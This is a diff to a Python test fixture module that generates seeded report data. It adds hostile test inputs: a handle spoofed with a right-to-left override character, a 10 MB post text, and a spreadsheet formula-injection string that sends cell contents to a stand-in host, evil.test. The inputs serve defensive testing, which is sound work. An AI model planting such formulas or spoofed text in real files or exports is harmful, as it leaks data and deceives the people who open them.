@@ -6,6 +6,7 @@ given seed, so a test can compute what it expects from the same dict it renders.
 
 from __future__ import annotations
 
+import copy
 import json
 import random
 from datetime import UTC, date, datetime, timedelta
@@ -280,5 +281,30 @@ def make_report(
         "coverage": coverage,
         "findings": findings,
     }
+    validate(report)
+    return report
+
+
+# --- hostile text a platform can hand us (names, handles, post text) ----------------------------
+
+RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
+SPOOFED_HANDLE = RLO + "sh_edisllih@"  # a browser honouring the override shows "@hillside_hs"
+FORMULA_SUBJECT = '=HYPERLINK("https://evil.test/?leak="&A2,"Open the post")'
+TEN_MB = 10 * 1024 * 1024  # 10,485,760 characters
+
+
+def post_text(length: int) -> str:
+    """Post text of exactly `length` characters."""
+    sentence = "Great game tonight, Hawks! Thanks to every family who came out. "
+    return (sentence * (length // len(sentence) + 1))[:length]
+
+
+def with_hostile_finding(report: dict[str, Any], **fields: Any) -> dict[str, Any]:
+    """A copy of `report` whose first finding is a new one (fingerprint `hostile`) carrying `fields`."""
+    report = copy.deepcopy(report)
+    hostile = copy.deepcopy(report["findings"][0])
+    hostile.update(fingerprint="hostile", status="new", regressed=False, waiver=None, **fields)
+    report["findings"].insert(0, hostile)
+    report["summary"] = summarize(report["findings"])
     validate(report)
     return report
